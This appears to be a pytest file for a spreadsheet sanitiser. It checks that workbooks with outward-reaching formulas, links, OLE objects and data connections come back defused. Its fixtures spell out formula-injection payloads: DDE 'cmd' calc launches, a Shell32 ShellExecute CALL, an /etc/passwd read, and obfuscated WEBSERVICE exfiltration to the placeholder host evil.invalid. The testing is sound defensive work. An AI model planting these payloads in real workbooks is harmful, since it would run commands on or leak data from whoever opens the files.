"""Workbooks that act or reach outside when somebody opens them: what comes back does neither."""

import re
from collections.abc import Iterator

import pytest
from openpyxl import Workbook

from ingestion.files.workbook import open_workbook
from tbw.answer.marked_return import Kind, mark
from tbw.answer.marking.defused import is_quiet
from tests.tbw.marks import HEAD, SHEET, edited, finding, form, loaded, parts, saved

OUT = "http://evil.invalid/x"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_PART = "xl/worksheets/sheet1.xml"
LOUD = {
    "another program": "cmd|'/c calc'!A0",
    "another program, coded": "cmd&#124;'/c calc'!A0",
    "a web service": f'WEBSERVICE("{OUT}?"&amp;A1)',
    "a function of newer versions": f'_xlfn.IMAGE("{OUT}")',
    "a link": f'HYPERLINK("{OUT}","查看")',
    "a link made of cells": 'HYPERLINK("ht"&amp;"tp:"&amp;A1)',
    "another workbook": "[1]Sheet1!A1",
    "another workbook by its path": "'\\\\evil.invalid\\share\\[x.xlsx]S'!A1",
    "a place that is put together": f"INDIRECT(\"'{OUT}'#A1\")",
    "a library of the machine": 'CALL("Shell32","ShellExecuteA","JJCCCJJ")',
    "live data": 'RTD("x.y",,"z")',
    "a place that is put together in a link": 'HYPERLINK("#"&amp;A1,"查看")',
    "an address behind the sign of a place": f'HYPERLINK("#{OUT}","查看")',
    "a service that is named, not called": "IF(1,WEBSERVICE,1)(A1)",
    "a service that is named as files have it": "_xleta.STOCKHISTORY",
    "the result is called": "CHOOSE(1,A1)(A1)",
    "a service of another program": f'IMPORTDATA("{OUT}")',
    "another program by a function": 'DDE("soffice","/etc/passwd","A1")',
    "a service in wide signs": "＝WEBSERVICE(A1)",
    "a call on two lines": "WEBSERVICE&#10;(A1)",
    "the macro of the book": "[0]!Macro1()",
    "with a comment in it": "WEB<!-- -->SERVICE(A1)",
}
NAMES = (
    f"""<externalReferences><externalReference r:id="rId77" xmlns:r="{RELATIONS}"/></externalReferences>"""
    """<definedNames><definedName name="安静">'附表'!$B$2</definedName>"""
    """<definedName name="夺命">cmd|'/c calc'!A0</definedName></definedNames>"""
)
LINKED = f"""<hyperlinks><hyperlink ref="F4" r:id="rId77" xmlns:r="{RELATIONS}"/></hyperlinks>"""


def marked(content: bytes) -> tuple[Kind, bytes]:
    found = mark(content, [finding("F4")], HEAD)
    return found.kind, found.content


def with_formula(written: str, shown: str = "7.25") -> bytes:
    """The form with a formula and its result in F3."""
    cell = f"<f>{written}</f><v>{shown}</v>".replace("\\", "\\\\")
    return edited(form(), {SHEET_PART: (r"<f>1\+1</f><v>2</v>", cell)})


def related(kind: str, target: str, to: str = "xl/_rels/workbook.xml.rels", content: bytes | None = None) -> bytes:
    new = f'<Relationship Id="rId77" Target="{target}" TargetMode="External" Type="{RELATIONS}/{kind}"/>'
    known = to in parts(content or form())
    whole = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{new}</Relationships>'
    edits = {to: ("</Relationships>", f"{new}</Relationships>")} if known else {}
    return edited(content or form(), edits, {} if known else {to: whole.encode()})


def formulas(content: bytes) -> Iterator[str]:
    for part in parts(content).values():
        yield from re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>(.*?)</(?:\w+:)?f>", part.decode("utf-8", "replace"))


@pytest.mark.parametrize("written", LOUD.values(), ids=LOUD)
def test_a_formula_that_reaches_outside_comes_back_as_its_value(written: str) -> None:
    kind, content = marked(with_formula(written))
    assert kind is Kind.COPY
    assert loaded(content)[SHEET]["F3"].value == 7.25
    assert sorted(formulas(content)) == ["SUM(F3:F3)"]  # what looks at the form only stays
    assert OUT.encode() not in b"".join(parts(content).values())


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(F3:F4)",
        "'附表'!B2*100%",
        'IF(A1>0,"http://x|[1]",ROUND(A2,2))',
        'HYPERLINK("#\'附表\'!B2","看")',
        "A1+B$2",
        "",
    ],
)
def test_what_honest_forms_compute_with_stays(formula: str) -> None:
    assert is_quiet(formula)


def test_cells_that_share_a_loud_formula_lose_it_together() -> None:
    page = (
        '<f t="shared" ref="F3:G3" si="0">WEBSERVICE(A1)</f><v>1</v></c>'
        '<c r="G3"><f t="shared" si="0"/><v>2</v></c></row>'
    )
    content = edited(form(), {SHEET_PART: (r"<f>1\+1</f><v>2</v></c>.*?</row>", page)})
    kind, back = marked(content)
    assert kind is Kind.COPY
    assert b"shared" not in parts(back)[SHEET_PART]
    assert [loaded(back)[SHEET][cell].value for cell in ("F3", "G3")] == [1, 2]


def test_links_are_no_links() -> None:
    content = edited(form(), {SHEET_PART: ("</worksheet>", f"{LINKED}</worksheet>")})
    kind, back = marked(related("hyperlink", OUT, "xl/worksheets/_rels/sheet1.xml.rels", content))
    assert kind is Kind.COPY
    assert OUT.encode() not in b"".join(parts(back).values())
    assert b"hyperlink" not in parts(back)[SHEET_PART]
    assert loaded(back)[SHEET]["F4"].value == "见附件"


def test_an_address_in_place_of_a_place_is_no_link() -> None:
    links = f'<hyperlinks><hyperlink ref="F4" location="{OUT}"/></hyperlinks></worksheet>'
    _, back = marked(edited(form(), {SHEET_PART: ("</worksheet>", links)}))
    assert OUT.encode() not in b"".join(parts(back).values())


def test_other_workbooks_are_left_out_with_the_names_that_stand_for_them() -> None:
    book = {
        "xl/workbook.xml": (
            "</sheets>(.*?<definedNames ?/>|<definedNames>.*?</definedNames>)?",
            f"</sheets>{NAMES}",
        ),
        SHEET_PART: (r"<f>1\+1</f>", "<f>夺命+1</f>"),
    }
    kind, back = marked(edited(form(), book))
    after = parts(back)
    assert kind is Kind.COPY
    assert b"externalReference" not in after["xl/workbook.xml"]
    assert list(loaded(back).defined_names) == ["安静"]
    assert sorted(formulas(back)) == ["SUM(F3:F3)"]


ACTING = {
    "a data connection": related("connections", "connections.xml"),
    "a linked picture": related("image", OUT, "xl/drawings/_rels/drawing1.xml.rels"),
    "a template from elsewhere": related("attachedTemplate", OUT),
    "a rule that calls out": edited(
        form(), {SHEET_PART: ("<formula1>0</formula1>", f'<formula1>WEBSERVICE("{OUT}")</formula1>')}
    ),
    "a shape that is a link": edited(
        form(), {}, {"xl/drawings/vmlDrawing9.vml": f'<xml><v:shape href="{OUT}"/></xml>'.encode()}
    ),
    "a colour scale that calls out": edited(
        form(),
        {
            SHEET_PART: (
                "<dataValidations",
                f'<x><cfvo type="formula" val="WEBSERVICE(&quot;{OUT}&quot;)"/></x><dataValidations',
            )
        },
    ),
    "a shape with the text of elsewhere": edited(
        form(), {}, {"xl/drawings/drawing8.xml": f"""<d><sp macro="'{OUT}'!m" textlink="[1]S!A1"/></d>""".encode()}
    ),
    "a button of older versions": edited(
        form(), {}, {"xl/drawings/vmlDrawing8.vml": f"<x><x:FmlaMacro>'{OUT}'!m</x:FmlaMacro></x>".encode()}
    ),
    "a picture of older versions": edited(
        form(), {}, {"xl/drawings/vmlDrawing8.vml": f'<x><v:imagedata src="{OUT}"/></x>'.encode()}
    ),
    "an object of elsewhere": edited(
        form(), {SHEET_PART: ("</worksheet>", f"""<oleObject link="'{OUT}'!x"/></worksheet>""")}
    ),
    "a page that is published": edited(
        form(), {SHEET_PART: ("</worksheet>", f'<webPublishItem destinationFile="{OUT}"/></worksheet>')}
    ),
    "a control": edited(
        form(), {}, {"xl/ctrlProps/ctrlProp1.xml": f"""<p fmlaLink="'{OUT}'!A1" fmlaRange="[1]S!A1"/>""".encode()}
    ),
    "the ground of all links": edited(
        form(), {"docProps/app.xml": ("</Properties>", f"<HyperlinkBase>{OUT}</HyperlinkBase></Properties>")}
    ),
    "another way to write": edited(
        form(), {}, {"xl/worksheets/sheet9.xml": "<?xml version='1.0'?><a/>".encode("utf-16")}
    ),
}


@pytest.mark.parametrize("content", ACTING.values(), ids=ACTING)
def test_a_workbook_that_acts_is_put_together_anew_from_its_cells(content: bytes) -> None:
    kind, back = marked(content)
    assert kind is Kind.REBUILT
    assert OUT.encode() not in b"".join(parts(back).values())
    assert list(formulas(back)) == []
    assert loaded(back)[SHEET]["F4"].value == "见附件"


def test_texts_that_look_like_formulas_stay_texts() -> None:
    book = Workbook()
    page = book.worksheets[0]
    for row, text in enumerate(("=cmd|'/c calc'!A0", f'=WEBSERVICE("{OUT}")', "+1", "@SUM(A1)"), 1):
        page.cell(row, 1, text).data_type = "s"
    page["B1"] = "x"
    _, back = marked(saved(book))
    first = loaded(back).worksheets[0]
    assert {first.cell(row, 1).data_type for row in range(1, 5)} == {"s"}
    assert open_workbook(back).sheets[0].rows[0][0].text == "=cmd|'/c calc'!A0"
